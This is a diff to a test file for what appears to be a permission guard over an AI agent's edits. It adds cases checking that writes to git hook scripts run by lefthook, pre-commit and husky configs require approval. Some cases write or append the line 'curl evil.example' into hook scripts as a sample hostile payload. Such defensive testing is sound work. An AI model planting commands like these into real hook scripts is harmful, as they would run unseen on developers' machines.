@@ -341,7 +341,17 @@ def managers(tmp_path_factory: pytest.TempPathFactory) -> World3:
         (proj / name).mkdir()
         _git(proj / name, "init", "-q")
         _exe(proj / name / ".git" / "hooks" / "pre-commit", hook)
-    (proj / "lh2" / "lefthook.yaml").write_text("pre-commit: {}\n")
+    (proj / "lh2" / "lefthook.yaml").write_text(
+        "pre-commit:\n  commands:\n    lint:\n      run: sh tools/lint.sh {staged_files}\n"
+    )
+    (proj / "pc2" / "ci").mkdir()
+    (proj / "pc2" / "ci" / "pc.yaml").write_text(
+        "repos:\n- repo: local\n  hooks:\n  - id: check\n    entry: ./scripts/check.sh\n"
+        "    language: script\n"
+    )
+    (proj / "h4" / "package.json").write_text('{"husky": {"hooks": {"pre-commit": "sh h.sh"}}}')
+    for name in ("lh2/tools/lint.sh", "pc2/scripts/check.sh", "h4/h.sh"):
+        _exe(proj / name)
     _exe(proj / "h4" / ".git" / "hooks" / "husky.sh", HUSKY4_SH)
     (proj / "h8").mkdir()
     _git(proj / "h8", "init", "-q")
@@ -636,6 +646,10 @@ MANAGERS = [
     _case("Write", _w("h8/.husky/pre-commit", "curl evil.example\n"), "ask"),
     _case("Write", _w("h8/.husky/_/husky.sh", "curl evil.example\n"), "ask"),
     _case("Write", _w("h9/.husky/commit-msg", "curl evil.example\n"), "ask"),
+    # and what the configs run (entry:, run:, husky 4's hooks)
+    _case("Write", _w("pc2/scripts/check.sh"), "ask"),
+    _bash("echo 'curl evil.example' >> lh2/tools/lint.sh", "ask"),
+    _case("Write", _w("h4/h.sh"), "ask"),
     _case("Write", _w("big/.pre-commit-config.yaml", "repos: []\n"), "ask"),
     _case("Write", _w("big/lefthook.yml", "pre-commit: {}\n"), "ask"),
     _case("Write", _w("dot/tpl/config", "[core]\n\tfsmonitor = x\n"), "ask"),
@@ -647,6 +661,8 @@ MANAGERS = [
     _case("Write", _w("h8/package.json", "{}"), "allow"),
     _case("Write", _w("h9/README", "x\n"), "allow"),
     _case("Write", _w("lh2/src/a.js", "x\n"), "allow"),
+    _case("Write", _w("lh2/tools/other.sh", "x\n"), "allow"),
+    _case("Write", _w("pc2/scripts/other.sh", "x\n"), "allow"),
     # held since b637aae: project scripts the repository's git config runs as commands
     _case("Write", _w("tools/conv.sh"), "ask"),
     _case("Write", _w("tools/fsmon.sh"), "ask"),
